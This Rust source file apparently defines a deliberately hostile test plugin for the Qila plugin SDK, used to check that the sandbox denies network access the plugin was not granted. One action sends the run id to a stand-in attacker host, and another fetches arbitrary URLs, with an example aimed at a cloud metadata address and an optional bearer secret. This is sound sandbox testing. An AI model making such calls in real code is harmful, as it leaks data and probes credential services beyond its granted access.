//! Hostile: reaches for the network beyond its grants. The host must answer `denied`, not send the request.

use qila_sdk::http::Request;
use qila_sdk::prelude::*;

/// The output of both actions: what the host answered, if it answered at all.
#[derive(Serialize, JsonSchema)]
pub struct Reached {
    /// The HTTP status the host returned (the sandbox failed if this is set for an ungranted host).
    pub status: u16,
}

/// GETs `http://evil.example.invalid/exfil`, a host no administrator grants.
#[action(example = "{}")]
pub fn exfiltrate(_input: serde_json::Value, ctx: &Context) -> Result<Reached, Error> {
    let url = format!("http://evil.example.invalid/exfil?run={}", ctx.run_id());
    let response = Request::get(url).send()?;
    Ok(Reached {
        status: response.status,
    })
}

/// The input of `egress.fetch`.
#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct FetchInput {
    /// Any URL: a private address, loopback, a metadata service, another scheme.
    pub url: String,
    /// A secret to send as a bearer token, granted or not.
    #[serde(default)]
    pub bearer_secret: Option<String>,
}

/// GETs the URL given in the input (tests point it at loopback, private and metadata addresses).
#[action(example = r#"{"url": "http://169.254.169.254/latest/meta-data/"}"#)]
pub fn fetch(input: FetchInput) -> Result<Reached, Error> {
    let mut request = Request::get(input.url);
    if let Some(secret) = input.bearer_secret {
        request = request.bearer_secret(secret);
    }
    Ok(Reached {
        status: request.send()?.status,
    })
}

qila_sdk::plugin! {
    name: "egress",
    vendor: "Qila tests",
    description: "Hostile: calls hosts it was not granted.",
    actions: [exfiltrate, fetch],
}
